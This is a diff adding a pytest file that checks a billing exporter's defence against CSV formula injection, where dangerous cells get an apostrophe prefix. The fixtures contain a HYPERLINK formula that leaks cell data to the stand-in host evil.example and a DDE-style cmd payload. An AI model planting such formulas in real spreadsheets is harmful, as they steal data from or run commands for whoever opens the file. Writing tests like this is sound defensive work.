@@ -1,0 +1,80 @@
+"""CSV formula injection (issue 9, item 5): a cell a spreadsheet would run as a formula is
+written as text, with a leading apostrophe; real numbers stay numeric.
+
+The probe's repro: export_focus wrote `=HYPERLINK(...)` from a tag or a resource name verbatim.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from decimal import Decimal
+
+import pytest
+from django.core.management import call_command
+
+from billing_ingest.csv_safety import csv_safe, csv_safe_cell
+from tests.factories import CostLineItemFactory
+
+LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        (LINK, "'" + LINK),
+        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        # Numbers are numbers: a negative amount stays negative and numeric.
+        ("-12.50", "-12.50"),
+        ("+3", "+3"),
+        ("-1e-06", "-1e-06"),
+        ("-.5", "-.5"),
+        # Ordinary text, and a formula character later in the cell, are left alone.
+        ("gpu-node-01", "gpu-node-01"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_csv_safe(value, written):
+    assert csv_safe(value) == written
+
+
+def test_csv_safe_cell_leaves_non_text_alone():
+    assert csv_safe_cell(Decimal("-12.50")) == Decimal("-12.50")
+    assert csv_safe_cell(None) is None
+    assert csv_safe_cell(-3) == -3
+    assert csv_safe_cell("=1") == "'=1"
+
+
+@pytest.mark.django_db
+def test_export_focus_csv_neutralises_formulas_in_names_and_tags(tmp_path):
+    CostLineItemFactory(resource_name=LINK, resource_id="@evil", tags={"team": LINK})
+    CostLineItemFactory(
+        resource_name="-cmd|' /C calc'!A0", charge_category="Credit",
+        billed_cost=Decimal("-12.50"), effective_cost=Decimal("-12.50"),
+    )  # fmt: skip
+    out = tmp_path / "focus.csv"
+    call_command("export_focus", "--month", "2025-09", "--out", str(out), stdout=io.StringIO())
+
+    rows = list(csv.DictReader(out.open(newline="", encoding="utf-8")))
+    names = {row["ResourceName"] for row in rows}
+    assert names == {"'" + LINK, "'-cmd|' /C calc'!A0"}
+    assert {row["ResourceId"] for row in rows} >= {"'@evil"}
+    # No cell starts a formula, except numbers (which stay numbers).
+    for row in rows:
+        for column, cell in row.items():
+            if cell and cell.startswith(FORMULA_START):
+                Decimal(cell)  # raises if it is not a plain number
+                assert column.endswith(("Cost", "Quantity", "Price")), (column, cell)
+    credit = next(row for row in rows if row["ChargeCategory"] == "Credit")
+    assert Decimal(credit["EffectiveCost"]) == Decimal("-12.50")
+    assert Decimal(credit["BilledCost"]) == Decimal("-12.50")
+    tagged = next(row for row in rows if row["ResourceName"] == "'" + LINK)
+    # Tags are a JSON object (a cell starting "{"): the tag value is kept exactly.
+    assert json.loads(tagged["Tags"]) == {"team": LINK}
